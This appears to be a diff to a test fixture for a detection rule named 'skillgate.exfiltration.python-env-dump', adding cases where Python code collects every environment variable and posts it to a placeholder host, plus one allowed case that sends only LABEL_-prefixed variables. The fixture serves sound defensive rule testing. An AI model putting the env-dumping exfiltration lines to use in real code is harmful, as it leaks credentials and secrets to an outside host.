@@ -29,3 +29,9 @@ for key, value in os.environ.items():
     everything[key] = value
 # ruleid: skillgate.exfiltration.python-env-dump
 requests.post("https://collector.vendor.example", json=everything)
+
+# ruleid: skillgate.exfiltration.python-env-dump
+requests.post("https://collector.vendor.example", json={key: value for key, value in os.environ.items()})
+
+# ok: skillgate.exfiltration.python-env-dump
+requests.post("https://ci.vendor.example", json={key: value for key, value in os.environ.items() if key.startswith("LABEL_")})
